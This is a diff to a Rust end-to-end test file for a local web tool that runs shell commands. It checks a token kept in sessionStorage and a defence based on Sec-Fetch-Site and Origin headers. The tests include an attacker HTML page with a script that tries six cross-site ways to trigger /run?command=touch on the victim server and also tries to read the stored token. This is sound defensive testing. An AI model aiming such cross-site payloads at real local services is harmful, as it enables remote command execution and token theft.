@@ -1,8 +1,11 @@
 //! The built-in page (contract §2 `GET /`) in Debian's real headless Chromium,
 //! driven over WebDriver by a small client below (std `TcpStream` +
-//! `serde_json`): cookie login (§4), streaming output (§3.2, §3.3), Stop
-//! killing the child (§3.6), and the page telling the user why a stream
-//! could not start.
+//! `serde_json`): the cookie-less token flow (§4, v3: the printed URL, the
+//! token kept in the tab's `sessionStorage`, a reload), streaming output
+//! (§3.2, §3.3), Stop killing the child (§3.6), the page telling the user why
+//! a stream could not start, and an attacker page on another local port that
+//! tries every way a page can make a browser send a request (§4, v3:
+//! `Sec-Fetch-Site`, `Origin`), with and without `--no-auth`.
 //!
 //! Needs `/usr/bin/chromium` and `chromedriver` (`apt-get install chromium
 //! chromium-driver`). Without them each test prints `SKIPPED` and passes,
@@ -131,38 +134,106 @@ fn browser_stop_kills_command() {
     );
 }
 
-/// Without the token: `GET /` is refused, and a page that has lost its cookie
-/// tells the user to open the printed URL, and runs nothing.
+/// Without a token the page still loads (it holds no secret), says where
+/// the URL with the token comes from, and runs nothing; the same after the
+/// tab has lost its kept token.
 #[test]
-fn browser_without_token_says_not_authorised() {
+fn browser_without_token_says_how_to_get_it() {
     let Some(_lock) = browser_lock() else { return };
     let server = common::Server::start(&["--shell"]);
     let browser = Browser::start("unauthorised");
     let base = server.base.trim_end_matches('/').to_owned();
 
-    // §4: every route but /healthz needs the token, the page included.
+    // §4 (v3): `GET /` is served without a token; the page says what to do.
     browser.goto(&format!("{base}/"));
-    let state = browser.page_state();
-    browser.screenshot("browser-unauthorised-get.png");
-    assert_eq!(
-        state["hasCommand"],
-        json!(false),
-        "GET / without a token served the page: {state:#}"
+    let state = browser.wait_for("the no-token notice", PAGE_TIMEOUT, |s| {
+        s["hasCommand"] == json!(true) && no_token_notice(s)
+    });
+    browser.screenshot("browser-no-token.png");
+    assert!(
+        status(&state).contains("not authorised") && status(&state).contains("?token="),
+        "the status line says what to open: {state:#}"
     );
-    assert!(!browser.has_cookie(), "no cookie may be set without the token");
+    assert!(browser.cookies().is_empty(), "§4 (v3): no cookie is ever set");
 
-    // The page, then its cookie gone (expired, cleared, other browser profile).
-    open_page_with_token(&browser, &server);
-    browser.cmd("DELETE", &browser.path("/cookie"), None);
-    assert!(!browser.has_cookie(), "WebDriver deleted the cookie");
     let marker_file = common::marker_path("browser-noauth");
     browser.send_keys("#command", &format!("touch {}{ENTER}", marker_file.str()));
-    let state = browser.wait_for("the not-authorised message", PAGE_TIMEOUT, |s| {
-        status(s).contains("not authorised") && status(s).contains("?token=")
+    let state = browser.wait_for("the not-authorised message after Run", PAGE_TIMEOUT, |s| {
+        status(s).contains("not authorised") && no_token_notice(s)
     });
-    browser.screenshot("browser-unauthorised.png");
     std::thread::sleep(Duration::from_millis(500)); // give a wrongly started `touch` time to show
     assert!(!marker_file.exists(), "the command ran without a token: {state:#}");
+
+    // The token, then lost from the tab (storage cleared): told again.
+    open_page_with_token(&browser, &server);
+    browser.exec("sessionStorage.clear(); location.reload();", json!([]));
+    browser.wait_for(
+        "the no-token notice after the kept token was cleared",
+        PAGE_TIMEOUT,
+        |s| s["hasCommand"] == json!(true) && no_token_notice(s),
+    );
+}
+
+/// The printed URL, a run, Stop, then a reload: the token still works from
+/// `sessionStorage`, and the address bar never shows it again.
+#[test]
+fn browser_reload_keeps_the_token_out_of_the_address() {
+    let Some(_lock) = browser_lock() else { return };
+    let server = common::Server::start(&[]);
+    let browser = Browser::start("reload");
+    open_page_with_token(&browser, &server);
+
+    browser.send_keys("#command", &format!("echo before-reload{ENTER}"));
+    browser.wait_for("before-reload, exit code 0", PAGE_TIMEOUT, |s| {
+        lines_of(&s["stdout"]).iter().any(|l| l == "before-reload") && status(s).contains("exit code 0")
+    });
+    let marker = common::sleep_marker();
+    browser.clear("#command");
+    browser.send_keys("#command", &format!("sleep {marker}{ENTER}"));
+    browser.wait_for("status running", PAGE_TIMEOUT, |s| status(s).contains("running"));
+    browser.click("#stop");
+    browser.wait_for("status stopped", PAGE_TIMEOUT, |s| status(s).contains("stopped"));
+
+    browser.cmd("POST", &browser.path("/refresh"), Some(&json!({})));
+    let want = format!("{}/", server.base.trim_end_matches('/'));
+    let state = browser.wait_for("the page again after the reload", PAGE_TIMEOUT, |s| {
+        s["url"] == json!(want) && s["hasCommand"] == json!(true)
+    });
+    assert!(
+        !no_token_notice(&state),
+        "the kept token was not used after reload: {state:#}"
+    );
+    browser.send_keys("#command", &format!("echo after-reload{ENTER}"));
+    let state = browser.wait_for("after-reload, exit code 0", PAGE_TIMEOUT, |s| {
+        lines_of(&s["stdout"]).iter().any(|l| l == "after-reload") && status(s).contains("exit code 0")
+    });
+    let token = server.token.as_deref().expect("a token");
+    assert!(
+        !state["url"].as_str().unwrap_or("").contains(token),
+        "the token is back in the address bar: {state:#}"
+    );
+    assert!(browser.cookies().is_empty(), "§4 (v3): no cookie is ever set");
+    browser.screenshot("browser-reload.png");
+}
+
+/// §4 (v3): after the user opened the printed URL, a page on another local
+/// port (same site: `127.0.0.1`) and on another site (`localhost`) tries an
+/// image, an iframe, a `no-cors` fetch, a CORS fetch, an EventSource and a
+/// top-level navigation to `/run?command=touch …`. Nothing runs, each attempt
+/// reached the server and got `403`, and the attacker's server never sees
+/// the token. Then the user's own page still runs commands.
+#[test]
+fn browser_attacker_page_runs_nothing_and_learns_no_token() {
+    let Some(_lock) = browser_lock() else { return };
+    attack(&[]);
+}
+
+/// The same attack under `--no-auth`: `Sec-Fetch-Site` and `Origin` alone
+/// must stop it.
+#[test]
+fn browser_attacker_page_runs_nothing_under_no_auth() {
+    let Some(_lock) = browser_lock() else { return };
+    attack(&["--no-auth"]);
 }
 
 /// `err` (cannot start) shows its message; a vanished server is "unreachable".
@@ -228,24 +299,259 @@ fn unique() -> String {
     format!("{}{:09}", std::process::id(), nanos)
 }
 
-/// Opens the printed `?token=` URL: the server sets the cookie and redirects
-/// to `/`; the token is then neither in the address, the page, nor JavaScript.
+/// Opens the printed `?token=` URL: the page keeps the token in the tab's
+/// `sessionStorage` and takes it out of the address bar; no cookie is set
+/// and the token is nowhere in the page.
 fn open_page_with_token(browser: &Browser, server: &common::Server) {
     let token = server.token.as_deref().expect("the server prints a ?token= URL");
     browser.goto(&server.url);
     let want = format!("{}/", server.base.trim_end_matches('/'));
-    let state = browser.wait_for("the page at / after the token redirect", PAGE_TIMEOUT, |s| {
-        s["url"] == json!(want) && s["hasCommand"] == json!(true)
-    });
-    assert!(browser.has_cookie(), "the ssecommander_token cookie was set");
+    let state = browser.wait_for(
+        "the page at / with the token gone from the address",
+        PAGE_TIMEOUT,
+        |s| s["url"] == json!(want) && s["hasCommand"] == json!(true),
+    );
+    assert_eq!(
+        browser.exec("return sessionStorage.getItem('ssecommander_token');", json!([])),
+        json!(token),
+        "§4 (v3): the page keeps the token in sessionStorage"
+    );
+    assert!(
+        browser.cookies().is_empty(),
+        "§4 (v3): no cookie is set: {:?}",
+        browser.cookies()
+    );
     let html = browser.exec(
-        "return document.documentElement.outerHTML + document.cookie;",
+        "return document.documentElement.outerHTML + history.length + document.cookie;",
         json!([]),
     );
     assert!(
         !html.as_str().unwrap_or("").contains(token),
         "the token leaked into the page: {state:#}"
     );
+    assert!(
+        !no_token_notice(&state),
+        "the no-token notice shows with a token: {state:#}"
+    );
+}
+
+/// True when the page shows its "needs the token" notice.
+fn no_token_notice(state: &Value) -> bool {
+    state["notice"].as_str().is_some_and(|n| n.contains("?token="))
+}
+
+/// Runs the attack of [`browser_attacker_page_runs_nothing_and_learns_no_token`]
+/// against a server started with `args`.
+fn attack(args: &[&str]) {
+    let server = common::Server::start(args);
+    let dir = common::scratch_dir("attack");
+    let victim = server.base.trim_end_matches('/').to_owned();
+    let attacker = Attacker::start(&victim, dir.str());
+    let browser = Browser::start("attack");
+    // The user opens the printed URL (the flow itself is checked by
+    // open_page_with_token in the other tests).
+    browser.goto(&server.url);
+    browser.wait_for("the page", PAGE_TIMEOUT, |s| s["hasCommand"] == json!(true));
+    if server.token.is_none() {
+        // Without a token the page asks the server whether it needs one; under
+        // --no-auth it must not then ask the user for one.
+        let probed = "return performance.getEntriesByType('resource')\
+                      .some(function (e) { return e.name.indexOf('/run?command=true') >= 0; });";
+        poll_for("the page's token probe", PAGE_TIMEOUT, || {
+            (browser.exec(probed, json!([])) == json!(true)).then_some(())
+        });
+        std::thread::sleep(Duration::from_millis(300)); // the probe's handler runs after its entry
+        let state = browser.page_state();
+        assert!(
+            !no_token_notice(&state),
+            "--no-auth, yet the page asks for a token: {state:#}"
+        );
+    }
+
+    // Same site (another port of 127.0.0.1), then another site (localhost).
+    let rounds = [
+        ("s", format!("http://127.0.0.1:{}", attacker.port)),
+        ("x", format!("http://localhost:{}", attacker.port)),
+    ];
+    for (round, origin) in &rounds {
+        browser.goto(&format!("{origin}/attack?round={round}"));
+        let landed = format!("{victim}/run?command=");
+        browser.wait_for("the attacker page's top-level navigation to /run", PAGE_TIMEOUT, |s| {
+            s["url"].as_str().is_some_and(|u| u.starts_with(&landed))
+        });
+        browser.screenshot(&format!("browser-attack-{round}.png"));
+        // Every attempt must have reached the server, and been refused.
+        let tags: Vec<String> = ATTEMPTS.iter().map(|a| format!("{round}-{a}")).collect();
+        let lines = poll_for("an access line for each attempt", PAGE_TIMEOUT, || {
+            let log = server.log();
+            let lines: Vec<String> = tags
+                .iter()
+                .filter_map(|t| {
+                    log.lines()
+                        .find(|l| l.contains(&format!("%2F{t} ")) || l.contains(&format!("/{t} ")))
+                })
+                .map(str::to_owned)
+                .collect();
+            (lines.len() == tags.len()).then_some(lines)
+        });
+        for line in &lines {
+            assert!(
+                line.trim_end().ends_with(" 403"),
+                "§4 (v3): an attempt was not refused with 403: {line}"
+            );
+        }
+    }
+    std::thread::sleep(Duration::from_secs(1)); // a wrongly started `touch` has had time to show
+    let ran: Vec<String> = std::fs::read_dir(dir.path())
+        .map(|d| {
+            d.filter_map(|e| e.ok())
+                .map(|e| e.file_name().to_string_lossy().into_owned())
+                .collect()
+        })
+        .unwrap_or_default();
+    assert!(
+        ran.is_empty(),
+        "§4 (v3): the attacker page ran commands: {ran:?}\nserver log:\n{}",
+        server.log()
+    );
+    let seen = attacker.requests();
+    for request in &seen {
+        eprintln!("attacker's server got: {}", request.lines().next().unwrap_or(""));
+    }
+    assert!(
+        seen.iter().any(|r| r.contains("GET /report?navigating")),
+        "the attacker page did not run to its end; its server saw:\n{}",
+        seen.join("\n")
+    );
+    if let Some(token) = server.token.as_deref() {
+        let leaks: Vec<&String> = seen.iter().filter(|r| r.contains(token)).collect();
+        assert!(
+            leaks.is_empty(),
+            "§4 (v3): the attacker's server received the token:\n{leaks:#?}"
+        );
+    }
+
+    // Control: the user's own page, in the same tab, still runs commands.
+    browser.goto(&format!("{victim}/"));
+    let control = format!("{}/control", dir.str());
+    browser.send_keys("#command", &format!("touch {control}{ENTER}"));
+    let state = browser.wait_for("the control command to exit 0", PAGE_TIMEOUT, |s| {
+        status(s).contains("exit code 0")
+    });
+    assert!(
+        !no_token_notice(&state),
+        "the page asks for a token it has or does not need: {state:#}"
+    );
+    assert!(
+        Path::new(&control).exists(),
+        "control: the user's own page could not run touch"
+    );
+}
+
+/// What the attacker page tries, each a `touch DIR/ROUND-NAME`.
+const ATTEMPTS: &[&str] = &["img", "iframe", "nocors", "cors", "es", "nav"];
+
+/// The attacker's page: every way to make the browser send a request to the
+/// victim, then a top-level navigation. It reports to its own server, which
+/// logs every request it gets.
+fn attacker_page(victim: &str, dir: &str, round: &str) -> String {
+    format!(
+        r#"<!doctype html><meta charset="utf-8"><title>attacker</title><body>
+<script>
+var V = {victim:?}, D = {dir:?}, R = {round:?};
+function run(tag) {{ return V + "/run?command=" + encodeURIComponent("touch " + D + "/" + R + "-" + tag); }}
+function report(what) {{ new Image().src = "/report?" + encodeURIComponent(what); }}
+new Image().src = run("img");
+var f = document.createElement("iframe"); f.src = run("iframe"); document.body.appendChild(f);
+fetch(run("nocors"), {{mode: "no-cors", credentials: "include"}}).then(function () {{ report("nocors-sent"); }}, function (e) {{ report("nocors-failed " + e); }});
+fetch(run("cors"), {{credentials: "include"}}).then(function (r) {{ return r.text().then(function (t) {{ report("cors-read " + r.status + " " + t); }}); }}, function (e) {{ report("cors-failed " + e); }});
+var es = new EventSource(run("es"), {{withCredentials: true}}); es.onerror = function () {{ es.close(); report("es-error"); }};
+fetch(V + "/", {{credentials: "include"}}).then(function (r) {{ return r.text(); }}).then(function (t) {{ report("page-read " + t); }}, function (e) {{ report("page-failed " + e); }});
+try {{ report("storage " + window.open(V + "/").sessionStorage.getItem("ssecommander_token")); }} catch (e) {{ report("storage-failed " + e); }}
+setTimeout(function () {{ report("navigating"); setTimeout(function () {{ location.href = run("nav"); }}, 200); }}, 1500);
+</script>"#
+    )
+}
+
+/// A tiny HTTP server on another local port: serves [`attacker_page`] at
+/// `/attack?round=R`, `204` to anything else, and keeps the request line and
+/// headers of every request it gets. Stops accepting when dropped.
+struct Attacker {
+    port: u16,
+    seen: std::sync::Arc<Mutex<Vec<String>>>,
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+}
+
+impl Attacker {
+    fn start(victim: &str, dir: &str) -> Attacker {
+        use std::sync::atomic::{AtomicBool, Ordering};
+        use std::sync::Arc;
+        let listener = TcpListener::bind("127.0.0.1:0").expect("bind the attacker's port");
+        listener.set_nonblocking(true).expect("nonblocking listener");
+        let port = listener.local_addr().expect("local addr").port();
+        let seen = Arc::new(Mutex::new(Vec::new()));
+        let stop = Arc::new(AtomicBool::new(false));
+        let (victim, dir) = (victim.to_owned(), dir.to_owned());
+        let (seen2, stop2) = (seen.clone(), stop.clone());
+        std::thread::spawn(move || {
+            let deadline = Instant::now() + Duration::from_secs(300);
+            let mut served = 0;
+            while !stop2.load(Ordering::Relaxed) && Instant::now() < deadline && served < 500 {
+                match listener.accept() {
+                    Ok((stream, _)) => {
+                        served += 1;
+                        let (seen, victim, dir) = (seen2.clone(), victim.clone(), dir.clone());
+                        std::thread::spawn(move || attacker_serve(stream, &seen, &victim, &dir));
+                    }
+                    Err(_) => std::thread::sleep(Duration::from_millis(10)),
+                }
+            }
+        });
+        Attacker { port, seen, stop }
+    }
+
+    /// Every request head received so far.
+    fn requests(&self) -> Vec<String> {
+        self.seen.lock().unwrap_or_else(|p| p.into_inner()).clone()
+    }
+}
+
+impl Drop for Attacker {
+    fn drop(&mut self) {
+        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
+    }
+}
+
+/// One connection of the attacker's server: reads one head (bounded), logs
+/// it whole, answers and closes.
+fn attacker_serve(mut stream: TcpStream, seen: &Mutex<Vec<String>>, victim: &str, dir: &str) {
+    let _ = stream.set_nonblocking(false);
+    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
+    let mut head = Vec::new();
+    let mut buf = [0u8; 4096];
+    while !head.windows(4).any(|w| w == b"\r\n\r\n") && head.len() < 64 * 1024 {
+        match stream.read(&mut buf) {
+            Ok(0) | Err(_) => break,
+            Ok(n) => head.extend_from_slice(&buf[..n]),
+        }
+    }
+    if head.is_empty() {
+        return; // a preconnect that sent nothing
+    }
+    let text = String::from_utf8_lossy(&head).into_owned();
+    seen.lock().unwrap_or_else(|p| p.into_inner()).push(text.clone());
+    let target = text.split_whitespace().nth(1).unwrap_or("");
+    let reply = match target.strip_prefix("/attack?round=") {
+        Some(round) => {
+            let body = attacker_page(victim, dir, round);
+            format!(
+                "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                body.len()
+            )
+        }
+        None => "HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n".to_owned(),
+    };
+    let _ = stream.write_all(reply.as_bytes());
 }
 
 fn status(state: &Value) -> String {
@@ -409,11 +715,13 @@ impl Browser {
         )
     }
 
-    fn has_cookie(&self) -> bool {
+    /// The names of every cookie the browser holds for the current page.
+    fn cookies(&self) -> Vec<String> {
         let cookies = self.cmd("GET", &self.path("/cookie"), None);
         cookies
             .as_array()
-            .is_some_and(|all| all.iter().any(|c| c["name"] == json!("ssecommander_token")))
+            .map(|all| all.iter().map(|c| c["name"].to_string()).collect())
+            .unwrap_or_default()
     }
 
     /// What the tests look at: status, texts of stdout/stderr elements, the
@@ -423,8 +731,10 @@ impl Browser {
             "var q=function(s){return Array.prototype.map.call(document.querySelectorAll(s),\
                function(e){return e.textContent;});};\
              var st=document.getElementById('status'),o=document.getElementById('output');\
+             var n=document.getElementById('no-token');\
              return {url: location.href, hasCommand: !!document.getElementById('command'),\
                status: st ? st.textContent : '', output: o ? o.innerText : '',\
+               notice: n ? n.textContent : null,\
                stdout: q('#output .stdout'), stderr: q('#output .stderr'),\
                body: document.body ? document.body.innerText.slice(0, 500) : ''};",
             json!([]),
